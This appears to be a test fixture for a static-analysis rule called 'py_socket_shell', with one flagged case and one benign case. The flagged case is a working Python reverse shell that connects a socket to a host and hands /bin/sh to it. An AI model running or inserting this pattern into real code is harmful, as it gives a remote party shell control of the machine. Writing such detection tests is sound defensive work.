# The socket handed to the shell's process as its standard streams.
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((host, port))
# ruleid: py_socket_shell
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
# ok: py_socket_shell
subprocess.run(["ls"], stdin=subprocess.DEVNULL)
